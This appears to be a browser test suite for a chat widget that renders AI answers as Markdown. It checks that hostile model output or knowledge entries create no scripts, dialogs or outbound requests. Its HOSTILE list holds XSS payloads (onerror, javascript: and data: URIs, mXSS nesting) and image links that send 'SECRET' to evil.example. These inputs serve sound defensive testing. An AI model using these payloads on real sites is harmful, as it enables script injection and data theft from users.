// Hostile and awkward texts in answers: whatever a model or a knowledge entry says, only known elements appear.
import assert from "node:assert/strict";
import { after, afterEach, before, test } from "node:test";
import { launchBrowser, scriptAnswer, startServer, startSite, visit } from "./harness.mjs";

const ALLOWED = ["A", "BDI", "BR", "CODE", "EM", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "UL"];
const RENDER_MS_MAX = 1000;

const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<script>alert(1)</script>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=\"\u0001javascript:alert(1)\">x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](tel:*#06#)",
  "[x](tel:*%2306%23)",
  "[x](TEL:javascript:alert(1))",
  "<javascript:alert(1)>",
  "[x](//evil.example/)",
  "[bank](https://bank.example@evil.example/)",
  "![pixel](https://evil.example/?d=SECRET)",
  "![pixel][1]\n\n[1]: https://evil.example/?d=SECRET",
  "[![pixel](https://evil.example/p)](https://evil.example/)",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "[a](https://evil.example/\" onmouseover=\"alert(1))",
  "\u202Eevil\u202C [\u202Egro.knab](https://evil.example/)",
];

const HEAVY = [
  "a".repeat(100_000),
  ...["*", "[", "`", "_a", "\n"].map((text) => text.repeat(10_001)),
  ...["**a ", "[x](", "- ", "> ", "https://", "[x](https://a.example/(", "a.b@c.", "+1 ", "0123456789 ", "<https://a.example/", "(("].map((text) => text.repeat(5_000)),
];

let server, site, browser;
const visits = [];

before(async () => {
  server = await startServer();
  site = await startSite(server);
  browser = await launchBrowser();
});

afterEach(async () => {
  for (const { context } of visits.splice(0)) await context.close();
});

after(async () => {
  await browser?.close();
  await site?.stop();
  await server?.stop();
});

async function open(knowledge = []) {
  const agent = await server.agent({ name: "Ada", greeting: "Hello!" }, knowledge);
  const visitor = await visit(browser, site.page(agent));
  visits.push(visitor);
  await visitor.open();
  return visitor;
}

async function answerTo(visitor, text) {
  await visitor.page.unrouteAll();
  await scriptAnswer(visitor.page, server, text);
  const answer = await visitor.ask("?");
  return answer.locator(".cf-bubble");
}

const elements = (bubble) =>
  bubble.evaluate((node) =>
    [...node.querySelectorAll("*")].map(({ tagName, attributes, href }) => ({
      tag: tagName,
      attributes: [...attributes].map(({ name }) => name).sort(),
      href,
    })),
  );

function assertHarmless(found, text, allowed = ALLOWED) {
  for (const { tag, attributes, href } of found) {
    assert.ok(allowed.includes(tag), `${tag} from ${text}`);
    assert.ok(!attributes.some((name) => name.startsWith("on") || name === "style"), `${attributes} from ${text}`);
    if (href !== undefined) assert.match(href, /^(https?:|mailto:|tel:[+\d().-]+$)/, text);
  }
}

test("h01 h02 hostile answers make no element but the allowed, no dialog and no request", async () => {
  const visitor = await open();
  for (const text of HOSTILE) assertHarmless(await elements(await answerTo(visitor, text)), text);
  assert.equal(visitor.seen.dialogs, 0);
  assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
});

test("h01 hostile knowledge is as harmless as a hostile model", async () => {
  const visitor = await open([
    "Q: What is the velvet handbook?\nA: The velvet handbook is <img src=x onerror=alert(1)> [here](javascript:alert(1)).",
    "Q: What is the copper handbook?\nA: The copper handbook is ![p](https://evil.example/?d=1) <script>alert(1)</script>.",
  ]);
  for (const name of ["velvet", "copper"]) {
    const answer = await visitor.ask(`What is the ${name} handbook?`);
    assertHarmless(await elements(answer.locator(".cf-bubble")), name);
    await answer.locator(".cf-source").first().click();
    assertHarmless(await elements(answer.locator(".cf-excerpt")), name, [...ALLOWED, "DIV"]);
  }
  assert.equal(visitor.seen.dialogs, 0);
  assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
});

test("h01 what the visitor writes stays text", async () => {
  const visitor = await open();
  await scriptAnswer(visitor.page, server, "ok");
  await visitor.ask("**<b>hi</b>** [x](https://a.example)");
  const own = visitor.log.locator('[data-from="user"] .cf-bubble');
  assert.equal(await own.textContent(), "**<b>hi</b>** [x](https://a.example)");
  assert.equal(await own.locator("*").count(), 0);
});

test("h01 whatever an agent is set up with is shown as harmlessly", async () => {
  for (const text of HOSTILE.filter((text) => !/[\u0000-\u0008\t]/.test(text))) {
    const line = text.replace(/\n/g, " ").slice(0, 100);
    const agent = await server.agent({
      name: line,
      greeting: text,
      appearance: { suggestions: [line], launcher_text: line.slice(0, 40), consent_text: text, lead_rule: "before_first_message", texts: { en: { formTitle: line } } },
    });
    const visitor = await visit(browser, site.page(agent));
    await visitor.page.locator(".cf-launcher").click();
    const panel = visitor.page.getByRole("dialog");
    await panel.getByRole("form").waitFor();
    assertHarmless(await elements(panel.locator(".cf-bubble").first()), text);
    assertHarmless(await elements(panel.locator(".cf-consent")), text);
    assert.equal(await panel.locator("img, script, iframe, style, math, h2 *, h3 *").count(), 0, text);
    // Signs that turn the text are taken out of names.
    assert.equal(await panel.locator("h2").textContent(), line.replace(/[\u202a-\u202e\u2066-\u2069]/g, "").trim());
    assert.equal(visitor.seen.dialogs, 0);
    assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
    await visitor.context.close();
  }
});

test("h01 heavy answers are shown without a stall", async () => {
  const visitor = await open();
  for (const text of HEAVY) {
    const startedMs = Date.now();
    await answerTo(visitor, text);
    assert.ok(Date.now() - startedMs < RENDER_MS_MAX, `${text.slice(0, 12)}… took ${Date.now() - startedMs} ms`);
  }
});

test("the supported part of Markdown is shown as it is meant", async () => {
  const visitor = await open();
  const shape = async (text) => (await answerTo(visitor, text)).evaluate((node) => node.innerHTML.replaceAll(/<\/?span>/g, ""));
  const link = (href, inner) => `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow ugc">${inner}</a>`;
  const cases = {
    "one\n\ntwo": "<p>one</p><p>two</p>",
    "**b** *i* _j_ `c`": "<p><strong>b</strong> <em>i</em> <em>j</em> <code>c</code></p>",
    "snake_case_name 2 * 3 * 4": "<p>snake_case_name 2 * 3 * 4</p>",
    "**open": "<p>**open</p>",
    "- a\n- **b**": "<ul><li>a</li><li><strong>b</strong></li></ul>",
    "2. a\n3. b": '<ol start="2"><li>a</li><li>b</li></ol>',
    "Text:\n- a\n\nmore": "<p>Text:</p><ul><li>a</li></ul><p>more</p>",
    "# Title\ntext": "<p><strong>Title</strong></p><p>text</p>",
    "```js\na < b\n```": '<pre tabindex="0"><code>a &lt; b</code></pre>',
    "see https://a.example/x.": `<p>see ${link("https://a.example/x", "<bdi>https://a.example/x</bdi>")}.</p>`,
    "[docs](https://a.example/x)": `<p>${link("https://a.example/x", '<bdi>docs</bdi><span class="cf-host"> (a.example)')}</p>`,
    "[a.example](https://b.example/)": `<p>${link("https://b.example/", '<bdi>a.example</bdi><span class="cf-host"> (b.example)')}</p>`,
    "[write](mailto:a@b.example)": `<p>${link("mailto:a@b.example", '<bdi>write</bdi><span class="cf-host"> (a@b.example)')}</p>`,
    "![alt](https://a.example/i.png)": "<p>alt</p>",
    "\\*not bold\\*": "<p>*not bold*</p>",
  };
  for (const [text, expected] of Object.entries(cases)) assert.equal(await shape(text), expected, text);
});

const links = (bubble) => bubble.evaluate((node) => [...node.querySelectorAll("a")].map((a) => [a.querySelector("bdi").textContent, a.href]));

const LINKS = {
  "詳しくはhttps://shop.example/kayakをご覧ください。18ユーロです": [["https://shop.example/kayak"]],
  "https://shop.example/kayak，价格18欧元": [["https://shop.example/kayak"]],
  "（https://shop.example/kayak）for": [["https://shop.example/kayak"]],
  "https://shop.example/kayak에서": [["https://shop.example/kayak"]],
  "https://shop.example/kayakครับ": [["https://shop.example/kayak"]],
  "https://shop.example/%E3%82%ABです": [["https://shop.example/%E3%82%AB"]],
  "https://shop.example/size_(eu).": [["https://shop.example/size_(eu)"]],
  "size chart (https://shop.example/size_(eu)) page": [["https://shop.example/size_(eu)"]],
  "(see https://shop.example/x), then": [["https://shop.example/x"]],
  "https://shop.example/__a__/b_c_d": [["https://shop.example/__a__/b_c_d"]],
  "“https://shop.example/x” and https://shop.example/y…": [["https://shop.example/x"], ["https://shop.example/y"]],
  "<https://shop.example/x>.": [["https://shop.example/x"]],
  "[size](https://shop.example/size_(eu)) now": [["size", "https://shop.example/size_(eu)"]],
  '[size](https://shop.example/x "A title (b)") now': [["size", "https://shop.example/x"]],
  "[here](<https://shop.example/x y>).": [["here", "https://shop.example/x%20y"]],
  "[pricing](/pricing)": [],
  "Write to jane@shop.example.": [["jane@shop.example", "mailto:jane@shop.example"]],
  "メールはtaro@shop.jpです": [["taro@shop.jp", "mailto:taro@shop.jp"]],
  "(jane.doe+x@mail.shop.example)": [["jane.doe+x@mail.shop.example", "mailto:jane.doe+x@mail.shop.example"]],
  "grüße@münchen.example": [["grüße@münchen.example", "mailto:gr%C3%BC%C3%9Fe@m%C3%BCnchen.example"]],
  "https://medium.example/@jane.doe/post": [["https://medium.example/@jane.doe/post"]],
  "@jane.doe and jane@localhost": [],
  "Call +1 555 010 0123, or (030) 901820.": [["+1 555 010 0123", "tel:+15550100123"], ["(030) 901820", "tel:030901820"]],
  "+44 (0)20 7946 0958": [["+44 (0)20 7946 0958", "tel:+442079460958"]],
  "07700 900123; 06.12.34.56.78; 555-010-0123; 1-800-555-0199": [
    ["07700 900123", "tel:07700900123"],
    ["06.12.34.56.78", "tel:0612345678"],
    ["555-010-0123", "tel:5550100123"],
    ["1-800-555-0199", "tel:18005550199"],
  ],
  "電話は03-1234-5678です": [["03-1234-5678", "tel:0312345678"]],
  "[call us](tel:+15550100123)": [["call us", "tel:+15550100123"]],
  "01.04.2026 - 30.09.2026, 01/04/2026 12:30, 2026-03-15 10": [],
  "1 299 000, 1764534180, 192.168.100.200, 52.520008, 0.123456789, 09:00-17:00": [],
  "$0123456789, 0171 1234567kg, #0123456789, 4111 1111 1111 1111": [],
};

test("an address, an e-mail address and a phone number are links that end where a reader ends them", async () => {
  const visitor = await open();
  for (const [text, expected] of Object.entries(LINKS)) {
    const found = await links(await answerTo(visitor, text));
    assert.deepEqual(found, expected.map(([shown, address = shown]) => [shown, address]), text);
  }
});

test("names of files and code keep their underscores", async () => {
  const visitor = await open();
  for (const text of ["file__init__.py", "__init__.py", "snake_case_name", "MAX_(HTTP)_SIZE", "a_b_(c)_d"]) {
    assert.equal(await (await answerTo(visitor, text)).textContent(), text);
  }
});

const TABLES = {
  "| Boat | Price |\n|---|---:|\n| Kayak | 18 |\n| Canoe | 25 |": [["Boat", "Price"], ["Kayak", "18"], ["Canoe", "25"]],
  "Boat | Price\n--- | ---\nKayak | 18": [["Boat", "Price"], ["Kayak", "18"]],
  "Prices:\n| a | b |\n|:-:|:--|\n| 1 | 2 |\n\nThat is all.": [["a", "b"], ["1", "2"]],
  "| a |\n|---|\n| 1 |": [["a"], ["1"]],
  "| a | b |\n|---|---|\n| 1 |\n| 1 | 2 | 3 |": [["a", "b"], ["1", ""], ["1", "2"]],
  "| a \\| b | c |\n|---|---|\n| `x \\| y` | **z** |": [["a | b", "c"], ["x | y", "z"]],
  "| a | b |\n|---|---|\n| one<br>two | <b>three</b> |": [["a", "b"], ["one\ntwo", "three"]],
  "  | a | b |  \r\n  |---|---|  \r\n  | 1 | 2 |  ": [["a", "b"], ["1", "2"]],
  "| a | b |\n|---|---|": [["a", "b"]],
  "| القارب | السعر |\n|---|---|\n| كاياك | 18 |": [["القارب", "السعر"], ["كاياك", "18"]],
  "| 船 | 料金 |\n|---|---|\n| カヤック | 18 |\n- done": [["船", "料金"], ["カヤック", "18"]],
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |": [["a", "b"], ["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"]],
};

const NO_TABLES = ["a | b", "| a | b |", "| a | b |\n| c | d |", "a | b\n---", "| a | b |\n|---|", "| a |\n| - x |", "---\n---", "```\n| a | b |\n|---|---|\n```"];

const cells = (bubble) => bubble.evaluate((node) => [...node.querySelectorAll("tr")].map((row) => [...row.children].map((cell) => cell.innerText.trim())));

test("a model's table is a table, with its marks and its alignment", async () => {
  const visitor = await open();
  for (const [text, expected] of Object.entries(TABLES)) {
    const bubble = await answerTo(visitor, text);
    assert.deepEqual(await cells(bubble), expected, text);
    assertHarmless(await elements(bubble), text, [...ALLOWED, "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"]);
  }
  for (const text of NO_TABLES) assert.deepEqual(await cells(await answerTo(visitor, text)), [], text);
  const aligned = await answerTo(visitor, "| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |");
  assert.deepEqual(await aligned.evaluate((node) => [...node.querySelectorAll("td")].map((cell) => getComputedStyle(cell).textAlign.replace(/start|-webkit-/g, ""))), ["left", "center", "right", ""]);
  assert.equal(visitor.seen.dialogs, 0);
});

test("a wide table is scrolled inside its bubble, and one that is written from right to left begins there", async () => {
  const visitor = await open();
  const wide = `|${" Column name |".repeat(12)}\n|${"---|".repeat(12)}\n|${" some value |".repeat(12)}`;
  const bubble = await answerTo(visitor, wide);
  const [scrolls, over] = await bubble.evaluate((node) => {
    const box = node.querySelector(".cf-table");
    return [box.scrollWidth > box.clientWidth, node.scrollWidth > node.clientWidth];
  });
  assert.deepEqual([scrolls, over], [true, false]);
  assert.equal(await visitor.panel.locator(".cf-scroller").evaluate((node) => node.scrollWidth > node.clientWidth), false);
  const arabic = await answerTo(visitor, "| القارب | السعر |\n|---|---|\n| كاياك | 18 |");
  const [first, second] = await arabic.evaluate((node) => [...node.querySelectorAll("th")].map((cell) => cell.getBoundingClientRect().x));
  assert.ok(first > second);
});

const DRESSED = {
  "one<br>two": "one\ntwo",
  "one<br/>two<BR />three": "one\ntwo\nthree",
  "one<br>\ntwo": "one\ntwo",
  "<b>bold</b> and <i>thin</i>": "bold and thin",
  "<p>One.</p><p>Two.</p>": "One.\nTwo.",
  '<span class="x">red</span>': "red",
  "H<sub>2</sub>O, m<sup>2</sup>": "H2O, m2",
  "<STRONG>loud</STRONG>": "loud",
  "- <b>a</b>\n- b<br>c": "a\nb\nc",
  "a<b and c>d": "a<b and c>d",
  "1 < 2 > 0": "1 < 2 > 0",
  "`<br>` and `<b>`": "<br> and <b>",
  "<b onclick=alert(1)>x</b>": "<b onclick=alert(1)>x",
  "<video>x</video>": "<video>x</video>",
};

test("of a model's HTML, line breaks are made and dress is left out", async () => {
  const visitor = await open();
  for (const [text, expected] of Object.entries(DRESSED)) {
    const bubble = await answerTo(visitor, text);
    assert.equal((await bubble.innerText()).trim(), expected, text);
    assertHarmless(await elements(bubble), text);
  }
});
